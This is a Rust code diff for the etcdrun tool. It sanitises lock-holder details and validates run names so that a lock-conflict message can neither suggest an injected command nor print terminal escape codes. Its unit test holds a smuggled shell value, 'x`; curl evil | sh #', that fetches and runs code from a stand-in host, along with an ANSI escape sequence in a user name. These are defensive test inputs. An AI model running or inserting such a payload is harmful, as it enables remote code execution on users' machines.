@@ -20,9 +20,9 @@ use super::{
 };
 use crate::{
     inventory::HostId,
-    model::{EventKind, Outcome, RunResult},
+    model::{EventKind, Outcome, RunResult, one_line},
     remote::{LockAnswer, LockHolder, LockName, LockOwner, Release, RemoteError, Session, Surroundings},
-    state::Operator,
+    state::{Operator, RunId},
 };
 
 const FIRST_PAUSE: Duration = Duration::from_millis(200);
@@ -334,22 +334,28 @@ fn describe(holder: &LockHolder, hosts: &BTreeSet<String>) -> String {
     let (kind, name) = holder.name.split_once('-').unwrap_or(("", &holder.name));
     let (operator, since) = owner(&holder.about);
     let (who, alive) = match &operator {
-        Some(it) => (format!("{}@{}, process {}", it.user, it.host, it.pid), it.is_alive()),
+        Some(it) => (format!("{}@{}, process {}", one_line(&it.user), one_line(&it.host), it.pid), it.is_alive()),
         None => ("somebody".to_owned(), None),
     };
-    let run = &holder.run;
-    let way_out = match alive {
-        Some(true) => "it is still running: wait for it, or give --lock-timeout".to_owned(),
-        Some(false) => format!(
+    // Any account of the host may have written that file, and this is a command that people copy.
+    let run = RunId::parse(&holder.run);
+    let way_out = match (&run, alive) {
+        (None, _) => format!(
+            "that is not the name of a run: look at its lock on the host, and remove it there if no run of etcdrun made it ({})",
+            one_line(&holder.name)
+        ),
+        (Some(_), Some(true)) => "it is still running: wait for it, or give --lock-timeout".to_owned(),
+        (Some(run), Some(false)) => format!(
             "that process is gone, so the run has crashed: `etcdrun resume {run}` goes on with it, `etcdrun unlock {run}` breaks its lock"
         ),
-        None => {
+        (Some(run), None) => {
             format!(
                 "ask there whether it still runs; if not, `etcdrun resume {run}` there, or `etcdrun unlock {run} --force`"
             )
         }
     };
     let hosts: Vec<_> = hosts.iter().map(String::as_str).collect();
+    let (name, run, since) = (one_line(name), one_line(&holder.run), one_line(&since));
     format!("{kind} {name} is locked by run {run} of {who}, since {since}, on {}; {way_out}", hosts.join(", "))
 }
 
@@ -364,4 +370,27 @@ pub(super) fn owner(about: &str) -> (Option<Operator>, String) {
     let about: Value = serde_json::from_str(about).unwrap_or_default();
     let since = about["since"].as_str().unwrap_or("an unknown time").to_owned();
     (serde_json::from_value(about["operator"].clone()).ok(), since)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Any account of a host may write such a file.
+    #[test]
+    fn a_holder_that_is_no_run_is_in_no_command() {
+        let about = serde_json::json!({
+            "operator": { "user": "eve\n\x1b[2J", "host": "h", "pid": 1, "started": 1, "boot": "x" }, "since": "now\nthen",
+        });
+        let hosts = BTreeSet::from(["m1".to_owned()]);
+        let told = |run: &str| {
+            let holder = LockHolder { name: "cluster-prod".into(), run: run.into(), about: about.to_string() };
+            describe(&holder, &hosts)
+        };
+        let hostile = told("x`; curl evil | sh #");
+        assert!(hostile.contains("is not the name of a run") && !hostile.contains("etcdrun "), "{hostile}");
+        assert!(!hostile.contains(char::is_control), "{hostile:?}");
+        let usual = told("20261115T044500000Z-00ff");
+        assert!(usual.contains("unlock 20261115T044500000Z-00ff"), "{usual}");
+    }
 }
